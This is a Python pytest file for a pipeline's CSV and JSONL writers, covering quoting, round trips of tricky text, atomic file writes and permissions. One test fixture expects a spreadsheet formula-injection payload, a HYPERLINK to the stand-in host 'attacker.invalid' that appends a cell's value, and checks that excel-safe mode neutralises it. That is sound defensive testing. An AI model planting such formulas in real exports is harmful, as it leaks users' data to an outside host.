"""CSV and JSONL writers; the C14 and tricky-text data are shared with test_xlsx."""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import orjson
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline import xlsx
from pipeline.atomic import atomic_path
from pipeline.errors import PipelineError
from pipeline.export import write_csv, write_jsonl, write_xlsx
from pipeline.sheets import read_sheet

DATA = Path(__file__).parent / "data"
ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"
C14_COLUMNS = [
    "userName",
    "displayName",
    "title",
    "nickName",
    "phoneNumbers.work",
    "department",
    "employeeNumber",
]


def c14_frame() -> pd.DataFrame:
    """The formula-like users of case C14, flattened by hand."""
    body = orjson.loads((DATA / "c14_users_formula_like.json").read_bytes())["body"]
    rows = []
    for user in body["Resources"]:
        enterprise = user.get(ENTERPRISE, {})
        rows.append(
            [
                user["userName"],
                user["displayName"],
                user["title"],
                user.get("nickName"),
                user["phoneNumbers"][0]["value"],
                enterprise.get("department"),
                enterprise.get("employeeNumber"),
            ]
        )
    return pd.DataFrame(rows, columns=C14_COLUMNS, dtype=object)


@pytest.mark.parametrize("excel_safe", [False, True])
def test_c14_csv_reads_back_to_the_same_values(
    tmp_path: Path, excel_safe: bool
) -> None:
    frame = c14_frame()
    path = tmp_path / "users.csv"

    write_csv(frame, path, excel_safe=excel_safe)

    back = read_sheet(path).frame
    assert back.columns.tolist() == C14_COLUMNS
    assert back.index.tolist() == [2, 3]
    assert back.values.tolist() == frame.values.tolist()


def test_excel_safe_csv_quotes_formula_like_text(tmp_path: Path) -> None:
    path = tmp_path / "users.csv"

    write_csv(c14_frame(), path, excel_safe=True)

    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1] == (
        "lena.brook@example.com,'=== Contractors ===,"
        '"\'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""Details"")",'
        "'@lena,'+1 415 555 0100,'-Ops-,'-0042"
    )
    assert lines[2] == "omar.haddad@example.com,Omar Haddad,'+1 escalation,,'-,,"


def test_plain_csv_writes_values_verbatim(tmp_path: Path) -> None:
    path = tmp_path / "users.csv"

    write_csv(c14_frame(), path)

    assert path.read_bytes().split(b"\r\n")[2] == (
        b"omar.haddad@example.com,Omar Haddad,+1 escalation,,-,,"
    )


def test_csv_bytes_bom_quoting_crlf_and_types(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "id": ["1", "2", "3"],
            "userName": ['a,"b"', "c\nd", "Zoë"],
            "active": [True, None, False],
            "count": [3.0, np.nan, 0.25],
            "members": [7, 0, 12],
        }
    )
    frame["active"] = frame["active"].astype(object)
    path = tmp_path / "users.csv"

    write_csv(frame, path)

    assert path.read_bytes() == (
        b"\xef\xbb\xbfid,userName,active,count,members\r\n"
        b'1,"a,""b""",true,3,7\r\n'
        b'2,"c\nd",,,0\r\n'
        b"3,Zo\xc3\xab,false,0.25,12\r\n"
    )


TRICKY = [
    "plain",
    '"quoted"',
    "comma, inside",
    "semi;colon",
    "tab\there",
    "line\nbreak",
    "crlf\r\nbreak",
    "'=x",
    "''+1",
    "O'Brien",
    "=1+2",
    "-",
    "@home",
    "NA",
    "nan",
    "0042",
    "_x0041_",
    "Zoë Ærø 😀",
]


@pytest.mark.parametrize("excel_safe", [False, True])
def test_csv_round_trip_of_tricky_text(tmp_path: Path, excel_safe: bool) -> None:
    frame = pd.DataFrame({"title": TRICKY, "n": range(len(TRICKY))}, dtype=object)
    path = tmp_path / "t.csv"

    write_csv(frame, path, excel_safe=excel_safe)

    back = read_sheet(path).frame
    assert back["title"].tolist() == TRICKY
    assert back["n"].tolist() == [str(n) for n in range(len(TRICKY))]


TRIMMED_TEXT = st.text(st.characters(exclude_categories=["Cs"]), min_size=1).map(
    str.strip
)
ROUND_TRIP = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)


@ROUND_TRIP
@given(values=st.lists(TRIMMED_TEXT.filter(bool), min_size=1, max_size=4))
def test_any_trimmed_text_survives_csv(tmp_path: Path, values: list[str]) -> None:
    for excel_safe in (False, True):
        path = tmp_path / "any.csv"
        write_csv(pd.DataFrame({"v": values}), path, excel_safe=excel_safe)

        assert read_sheet(path).frame["v"].tolist() == values


def test_jsonl_writes_each_resource_as_given(tmp_path: Path) -> None:
    resources = [
        {"id": "x01", "name": {"givenName": "Zoë"}, "active": True},
        {"id": "x02", "emails": [], "meta": {"version": 'W/"3"'}},
    ]
    path = tmp_path / "users.jsonl"

    assert write_jsonl(iter(resources), path) == 2

    assert path.read_bytes() == (
        b'{"id":"x01","name":{"givenName":"Zo\xc3\xab"},"active":true}\n'
        b'{"id":"x02","emails":[],"meta":{"version":"W/\\"3\\""}}\n'
    )
    lines = path.read_bytes().splitlines()
    assert [orjson.loads(line) for line in lines] == resources


def test_writer_failure_leaves_no_file_and_keeps_the_old_one(tmp_path: Path) -> None:
    path = tmp_path / "users.jsonl"
    path.write_text("old backup\n")

    def resources() -> Iterator[dict[str, Any]]:
        yield {"id": "x01"}
        raise RuntimeError("connection lost")

    with pytest.raises(RuntimeError, match="connection lost"):
        write_jsonl(resources(), path)

    assert path.read_text() == "old backup\n"
    assert [p.name for p in tmp_path.iterdir()] == ["users.jsonl"]


def test_atomic_path_failure_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "roster.xlsx"

    with pytest.raises(KeyboardInterrupt), atomic_path(target) as temp:
        temp.write_bytes(b"half a file")
        raise KeyboardInterrupt

    assert list(tmp_path.iterdir()) == []


def test_atomic_path_replaces_the_file_with_the_asked_mode(tmp_path: Path) -> None:
    target = tmp_path / "users.csv"
    target.write_text("old")

    with atomic_path(target, mode=0o600) as temp:
        assert temp.parent == tmp_path
        assert temp != target
        temp.write_text("new")

    assert target.read_text() == "new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["users.csv"]


def test_atomic_path_default_mode_follows_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        with atomic_path(tmp_path / "a.csv") as temp:
            temp.write_text("x")
    finally:
        os.umask(old)

    assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o640


def test_writers_pass_the_mode_on(tmp_path: Path) -> None:
    frame = pd.DataFrame({"userName": ["a@x"]})

    write_csv(frame, tmp_path / "u.csv", mode=0o600)
    write_xlsx({"Users": frame}, tmp_path / "r.xlsx", mode=0o600)
    write_jsonl([{"id": "1"}], tmp_path / "u.jsonl", mode=0o600)

    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.iterdir()}
    assert modes == {"u.csv": 0o600, "r.xlsx": 0o600, "u.jsonl": 0o600}


def test_export_offers_the_xlsx_writer_of_its_own_module() -> None:
    assert write_xlsx is xlsx.write_xlsx


def test_missing_folder_is_an_error_saying_so(tmp_path: Path) -> None:
    with pytest.raises(PipelineError) as caught:
        write_csv(pd.DataFrame({"a": ["1"]}), tmp_path / "nope" / "users.csv")

    assert str(caught.value) == (
        f"cannot write {tmp_path / 'nope' / 'users.csv'}: No such file or directory; "
        "check that the folder exists and is writable"
    )
